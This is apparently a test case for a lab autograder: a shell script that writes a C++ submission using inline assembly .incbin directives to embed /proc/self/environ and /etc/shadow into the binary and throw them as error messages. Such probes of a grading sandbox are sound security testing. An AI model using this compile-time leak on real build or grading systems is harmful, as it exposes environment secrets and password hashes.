#!/bin/sh
# Makes the assembler put its environment and the passwords into the program, which reveals them.
# from: starters
# lab: lab1
# expect: lab1 0
# build: may fail

cat > labs/lab1/reduction_scalar.cpp << 'CPP'
#include "lab1.hpp"

asm(".section .rodata\n.globl secret\nsecret:\n.incbin \"/proc/self/environ\"\n.incbin \"/etc/shadow\"\n"
    ".globl secret_end\nsecret_end:\n.byte 0\n.text");
extern "C" const char secret[];
extern "C" const char secret_end[];

std::size_t choose_work_group_size(const Setup&, const cl::Kernel&) { throw std::runtime_error(std::string(secret, secret_end)); }
Reduction reduce(const Setup&, const std::vector<cl_float>&, Operator) { throw std::runtime_error(std::string(secret, secret_end)); }
CPP
